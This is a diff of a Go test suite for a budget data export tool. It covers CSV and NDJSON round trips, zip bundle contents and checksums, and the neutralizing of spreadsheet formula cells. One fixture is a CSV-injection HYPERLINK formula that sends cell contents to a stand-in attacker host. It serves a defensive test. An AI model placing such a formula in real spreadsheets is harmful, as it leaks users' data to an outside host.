@@ -118,17 +118,7 @@ func TestRoundTrip(t *testing.T) {
 			if !reflect.DeepEqual(back.Elem().Interface(), rows) {
 				t.Errorf("csv differs from the model")
 			}
-			// the Excel variant: a BOM, then the same bytes
-			if !bytes.Equal(read(t, dir, "excel/"+name+".csv"), append([]byte("\ufeff"), read(t, dir, name+".csv")...)) {
-				t.Error("excel csv is not BOM + csv")
-			}
-			// JSON array and NDJSON: objects in column order, numbers as numbers
-			var arr []map[string]any
-			dec := json.NewDecoder(bytes.NewReader(read(t, dir, "json/"+name+".json")))
-			dec.UseNumber()
-			if err := dec.Decode(&arr); err != nil {
-				t.Fatal(err)
-			}
+			// NDJSON: objects in column order, numbers as numbers
 			sc := bufio.NewScanner(bytes.NewReader(read(t, dir, "json/"+name+".ndjson")))
 			sc.Buffer(nil, 1<<20)
 			n := 0
@@ -140,8 +130,8 @@ func TestRoundTrip(t *testing.T) {
 				if err := d.Decode(&obj); err != nil {
 					t.Fatal(err)
 				}
-				if !reflect.DeepEqual(obj, arr[n]) {
-					t.Fatalf("ndjson row %d differs from json", n)
+				if n >= len(want) {
+					t.Fatalf("ndjson rows > %d, want %d", n, len(want))
 				}
 				for j, c := range cols {
 					got := ""
@@ -154,8 +144,8 @@ func TestRoundTrip(t *testing.T) {
 				}
 				n++
 			}
-			if n != len(want) || len(arr) != len(want) {
-				t.Errorf("json rows %d / %d, want %d", len(arr), n, len(want))
+			if n != len(want) {
+				t.Errorf("ndjson rows %d, want %d", n, len(want))
 			}
 		})
 	}
@@ -288,9 +278,29 @@ func TestBundleAndSums(t *testing.T) {
 			t.Errorf("%s in the zip differs from the file", zf.Name)
 		}
 	}
+	// the zip is the package: every file but itself, the workbook and the
+	// database (downloads of their own, every table in one file each)
+	whole := map[string]bool{"budgetpub.zip": true, "budgetpub.xlsx": true, "budgetpub.sqlite": true}
 	for name := range listed {
-		if name != "budgetpub.zip" && !inZip[name] {
+		if !whole[name] && !inZip[name] {
 			t.Errorf("%s missing from the zip", name)
+		}
+	}
+	for name := range whole {
+		if !listed[name] {
+			t.Errorf("%s missing from SHA256SUMS", name)
+		}
+		if inZip[name] {
+			t.Errorf("%s in the zip", name)
+		}
+	}
+	var pkg struct{ Resources []struct{ Path string } }
+	if err := json.Unmarshal(read(t, dir, "datapackage.json"), &pkg); err != nil {
+		t.Fatal(err)
+	}
+	for _, r := range pkg.Resources {
+		if !inZip[r.Path] {
+			t.Errorf("datapackage.json lists %s, which the zip lacks", r.Path)
 		}
 	}
 	if !inZip["README.txt"] {
@@ -489,7 +499,7 @@ func TestFormulaCellsNeutralized(t *testing.T) {
 		for _, f := range r.Schema.Fields {
 			numeric[f.Name] = f.Type == "number" || f.Type == "integer"
 		}
-		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(read(t, dir, r.Path), []byte("\ufeff")))).ReadAll()
+		recs, err := csv.NewReader(bytes.NewReader(read(t, dir, r.Path))).ReadAll()
 		if err != nil {
 			t.Fatalf("%s: %v", r.Path, err)
 		}
@@ -507,25 +517,19 @@ func TestFormulaCellsNeutralized(t *testing.T) {
 			}
 		}
 	}
-	for _, p := range []string{"documents.csv", "excel/documents.csv"} {
-		for _, want := range []string{"'" + evil, "'+86", "'@evil.txt"} {
-			if !found[p+" "+want] {
-				t.Errorf("%s: no cell %q", p, want)
-			}
+	for _, want := range []string{"'" + evil, "'+86", "'@evil.txt"} {
+		if !found["documents.csv "+want] {
+			t.Errorf("documents.csv: no cell %q", want)
 		}
 	}
-	for _, p := range []string{"line_items.csv", "excel/line_items.csv"} {
-		for _, want := range []string{"'-1+1", negative} {
-			if !found[p+" "+want] {
-				t.Errorf("%s: no cell %q", p, want)
-			}
+	for _, want := range []string{"'-1+1", negative} {
+		if !found["line_items.csv "+want] {
+			t.Errorf("line_items.csv: no cell %q", want)
 		}
 	}
 	// the other formats keep the true value
-	for _, p := range []string{"json/documents.json", "json/documents.ndjson"} {
-		if !bytes.Contains(read(t, dir, p), []byte(`"department":"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"`)) {
-			t.Errorf("%s does not hold the department name as it is", p)
-		}
+	if !bytes.Contains(read(t, dir, "json/documents.ndjson"), []byte(`"department":"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"`)) {
+		t.Error("json/documents.ndjson does not hold the department name as it is")
 	}
 	db, err := sql.Open("sqlite", filepath.Join(dir, "budgetpub.sqlite"))
 	if err != nil {
